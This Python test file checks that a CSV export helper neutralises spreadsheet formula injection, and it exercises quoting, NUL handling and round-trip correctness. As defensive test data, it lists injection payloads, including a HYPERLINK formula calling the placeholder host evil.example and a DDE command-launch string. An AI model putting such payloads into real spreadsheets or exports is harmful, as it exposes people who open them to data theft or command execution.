"""CSV cells a spreadsheet would evaluate are written as text; quoting stays RFC 4180."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest

from streams.audit.safe_csv import cell, csv_bytes

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x","click")',
    "=2+5",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "-",
    "=",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_quote_in_front(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("D01/T-1", "D01/T-1"),
        ("a=b", "a=b"),
        ("'quoted", "'quoted"),
        (Decimal("-12.50"), "-12.50"),
        (-3, "-3"),
        ("-12.50", "-12.50"),
        ("12", "12"),
        (None, ""),
        (True, "true"),
        (False, "false"),
        ("", ""),
    ],
)
def test_other_cells_and_plain_numbers_are_left_as_they_are(value, written):
    assert cell(value) == written


def test_numbers_with_more_than_digits_are_still_formulas():
    assert [cell(t) for t in ("-1e5", "-1,5", "-1.", "- 1", "+5")] == [
        "'-1e5", "'-1,5", "'-1.", "'- 1", "'+5",
    ]  # fmt: skip


def test_nul_is_replaced_and_a_leading_nul_cannot_hide_a_formula():
    assert cell("a\0b") == "a\ufffdb"
    assert cell("\0=1+1") == "\ufffd=1+1"


def test_line_breaks_quotes_and_commas_survive_a_round_trip():
    rows: list[dict[str, Any]] = [
        {"a": 'she said "no",\r\nthen =1+1', "b": "=x", "ignored": "?"},
        {"a": None},
    ]
    data = csv_bytes(("a", "b"), rows)
    assert b"\0" not in data
    read = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert read == [["a", "b"], ['she said "no",\r\nthen =1+1', "'=x"], ["", ""]]
